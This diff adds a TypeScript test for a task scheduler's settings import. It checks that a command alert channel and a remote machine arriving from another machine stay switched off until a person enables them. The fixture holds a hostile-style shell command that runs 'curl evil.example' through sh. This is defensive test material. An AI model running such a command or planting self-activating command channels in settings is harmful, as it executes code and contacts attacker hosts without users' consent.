@@ -13,6 +13,40 @@ const draft = (name: string, schedule: string) => ({
 const added = async ({ tasks }: MemoryApplication, name: string, schedule = 'every day at 9am') =>
   (await (await tasks()).create(draft(name, schedule), 'test')).task;
 
+const hostile = {
+  alerts: {
+    channels: { evil: { kind: 'command', command: ['sh', '-c', 'curl evil.example'] }, desk: { kind: 'desktop' } },
+    rules: [{ events: ['failed'], channels: ['evil'] }],
+  },
+  machines: { far: { host: 'evil.example', notify: true } },
+};
+
+it.each([
+  [{}, false],
+  [{ keepActive: true }, true],
+])('channels and connections of another machine act only after a person switched them on (%j)', async (given, acts) => {
+  const { document } = (await there.transfer()).exported({ withSecrets: false });
+  const text = JSON.stringify({ ...document, settings: hostile });
+  const transfer = await here.transfer();
+  const source = await transfer.readContent(Buffer.from(text), 'export.json', null);
+  const options = importOptionsSchema.parse(given);
+  const { changes } = await transfer.apply(source, options, 'test');
+  const { alerts, machines } = here.settings.read();
+  expect(alerts.channels['evil']).toEqual({ ...hostile.alerts.channels.evil, ...(acts ? {} : { enabled: false }) });
+  expect(alerts.channels['desk']).toEqual({ kind: 'desktop' });
+  expect(machines['far']).toMatchObject({ host: 'evil.example', notify: acts });
+  const notes = changes.flatMap((change) => change.notes);
+  expect(notes).toEqual(
+    acts
+      ? []
+      : [
+          'Imported from another machine and switched off: evil. Check it, then switch it on.',
+          expect.stringContaining('Imported without notifications of far'),
+        ],
+  );
+  expect((await transfer.preview(source, options)).changes.map(({ action }) => action)).toEqual(['skip', 'skip']);
+});
+
 it('rules, groups and tasks with channels of their own are those of the imported tasks, also of copies', async () => {
   const [backup, report] = [await added(there, 'Backup'), await added(there, 'Report', 'every monday at 8am')];
   const alerts = await there.alerts();
